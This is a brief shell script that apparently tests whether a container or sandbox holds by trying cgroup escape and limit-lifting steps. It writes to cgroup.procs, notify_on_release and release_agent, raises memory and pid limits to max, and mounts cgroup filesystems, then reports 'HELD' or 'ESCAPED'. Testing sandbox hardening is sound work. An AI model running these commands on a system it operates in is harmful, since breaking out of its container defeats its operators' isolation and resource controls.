# Looks for control groups to leave, to loosen, or whose release agent runs on the host.
tries=0 out=
try() { tries=$((tries + 1)); if eval "$1" >/dev/null 2>&1; then out="$out; $1"; fi; }
for place in /sys/fs/cgroup /sys/fs/cgroup/memory /sys/fs/cgroup/unified /sys/fs/cgroup/pids /cgroup /dev/cgroup /run/cgroup /tmp/cgroup; do
    try "ls $place/cgroup.procs"
    try "echo 0 > $place/cgroup.procs"
    try "echo 1 > $place/notify_on_release"
    try "echo /tmp/x > $place/release_agent"
    try "mkdir $place/mine"
    try "echo max > $place/memory.max"
    try "echo -1 > $place/memory.limit_in_bytes"
    try "echo max > $place/pids.max"
done
for kind in cgroup cgroup2; do try "mount -t $kind none /home/work"; done
try 'grep -q cgroup /proc/self/mountinfo'
# Only what is below our own group may be seen of the hierarchy.
try "grep -v ':/$' /proc/self/cgroup"
[ -z "$out" ] && echo "HELD: $tries tries" || echo "ESCAPED: $out"
